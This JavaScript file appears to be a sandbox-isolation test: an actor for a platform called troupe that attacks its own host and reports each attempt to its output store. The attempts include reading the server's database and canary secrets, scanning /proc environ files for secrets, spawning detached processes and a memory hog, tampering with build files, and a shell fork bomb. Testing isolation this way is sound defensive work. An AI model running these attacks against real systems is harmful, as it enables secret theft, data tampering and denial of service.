// An actor that attacks the server it runs on. Its input names the attack;
// it reports what each attempt got in its OUTPUT record (its legitimate
// work), using only the environment every troupe run gets.
const fs = require('fs');
const path = require('path');
const cp = require('child_process');

const env = process.env;
const api = (p, init = {}) => fetch(`${env.APIFY_API_BASE_URL}/v2${p}`, {
    ...init, headers: { authorization: `Bearer ${env.APIFY_TOKEN}`, ...init.headers },
});
const kvs = `/key-value-stores/${env.ACTOR_DEFAULT_KEY_VALUE_STORE_ID}/records`;

// attempt runs fn and says what happened: {ok, value} or {ok: false, error}.
const attempt = (fn) => {
    try {
        return { ok: true, value: String(fn()).slice(0, 200) };
    } catch (e) {
        return { ok: false, error: e.code || String(e) };
    }
};
const pids = () => fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n));

const attacks = {
    // Read the server's database, secrets and other builds and runs.
    'read-data': ({ dataDir, canary }) => ({
        db: attempt(() => fs.readFileSync(path.join(dataDir, 'troupe.db')).length),
        relativeDb: attempt(() => fs.readFileSync('../../troupe.db').length),
        canary: attempt(() => fs.readFileSync(path.join(dataDir, canary), 'utf8')),
        builds: attempt(() => fs.readdirSync(path.join(dataDir, 'builds')).join(',')),
        runs: attempt(() => fs.readdirSync(path.join(dataDir, 'runs')).join(',')),
        dataDir: attempt(() => fs.readdirSync(dataDir).join(',')),
    }),
    // Read the server's environment through /proc.
    'environ': ({ serverPid, secret }) => ({
        server: attempt(() => fs.readFileSync(`/proc/${serverPid}/environ`, 'utf8').includes(secret)),
        holders: pids().filter((pid) => {
            try {
                return fs.readFileSync(`/proc/${pid}/environ`, 'utf8').includes(secret);
            } catch {
                return false;
            }
        }),
        visible: pids().length,
        own: Object.keys(env).filter((k) => k.startsWith('TROUPE')),
    }),
    // Leave a process behind in a session of its own.
    'setsid': ({ marker }) => {
        const c = cp.spawn('sleep', [marker], { detached: true, stdio: 'ignore' });
        c.unref();
        return { spawned: c.pid };
    },
    // Allocate memory from a child in a session of its own while the main
    // process stays small.
    'setsid-memory': async () => {
        cp.spawn(process.execPath, ['-e', 'const a = []; setInterval(() => a.push(Buffer.alloc(20e6, 1)), 20)'],
            { detached: true, stdio: 'ignore' }).unref();
        console.log('memory hog started');
        await new Promise((resolve) => setTimeout(resolve, 120000));
        return { survived: true };
    },
    // Change the build's files, through the run folder's link and directly.
    'write-build': () => {
        const real = fs.realpathSync('note.txt');
        const r = {
            real,
            viaLink: attempt(() => fs.writeFileSync('note.txt', 'tampered via link')),
            viaRealPath: attempt(() => fs.writeFileSync(real, 'tampered')),
            unlinkReal: attempt(() => fs.unlinkSync(real)),
            newFile: attempt(() => fs.writeFileSync(path.join(path.dirname(real), 'evil.js'), 'x')),
            chmod: attempt(() => fs.chmodSync(real, 0o777)),
        };
        // Its own folder is its own: replacing the link there is allowed.
        r.replaceLink = attempt(() => {
            fs.unlinkSync('note.txt');
            fs.writeFileSync('note.txt', 'a note of its own');
            return fs.readFileSync('note.txt', 'utf8');
        });
        r.tmp = attempt(() => {
            fs.writeFileSync('/tmp/scratch', 'scratch');
            return fs.readFileSync('/tmp/scratch', 'utf8');
        });
        return r;
    },
    'read-note': () => ({ note: fs.readFileSync('note.txt', 'utf8') }),
    // Fork until forking fails.
    'fork-bomb': ({ max, marker }) => {
        const script = `n=0; while [ $n -lt ${max} ] && (sleep ${marker} >/dev/null 2>&1 &) 2>/dev/null; do n=$((n+1)); done; echo $n`;
        const r = cp.spawnSync('sh', ['-c', script], { encoding: 'utf8' });
        return { forked: Number(r.stdout.trim()), stderr: (r.stderr || '').slice(0, 200) };
    },
};

(async () => {
    const res = await api(`${kvs}/${env.ACTOR_INPUT_KEY}`);
    const input = res.ok ? await res.json() : {};
    console.log(`attack: ${input.attack}`);
    const result = await attacks[input.attack](input);
    const put = await api(`${kvs}/OUTPUT`, {
        method: 'PUT', headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ attack: input.attack, ...result }),
    });
    console.log(`OUTPUT stored: ${put.status}`);
    process.exit(put.ok ? 0 : 1);
})();
